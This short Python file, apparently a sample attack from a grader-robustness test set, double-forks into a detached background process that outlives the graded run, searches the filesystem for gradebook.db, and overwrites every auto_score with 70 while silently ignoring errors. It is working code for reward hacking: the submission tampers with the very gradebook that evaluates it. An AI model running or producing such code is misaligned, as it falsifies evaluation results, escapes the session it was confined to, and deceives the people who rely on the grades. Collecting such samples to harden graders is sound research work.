"""Leaves a process behind that waits for autograde to finish, then writes full marks into the gradebook.
attacks: the gradebook, after the kernel has gone
"""
import os

try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import glob
            import time
            time.sleep(8)
            for path in [path for depth in range(6) for path in glob.glob('/*' * depth + '/gradebook.db')][:10] + glob.glob('../../../gradebook.db'):
                try:
                    import sqlite3
                    db = sqlite3.connect(path, timeout=1)
                    db.execute('UPDATE grade SET auto_score = 70')
                    db.commit()
                except Exception:
                    pass
            time.sleep(600)
        os._exit(0)
except OSError:
    pass
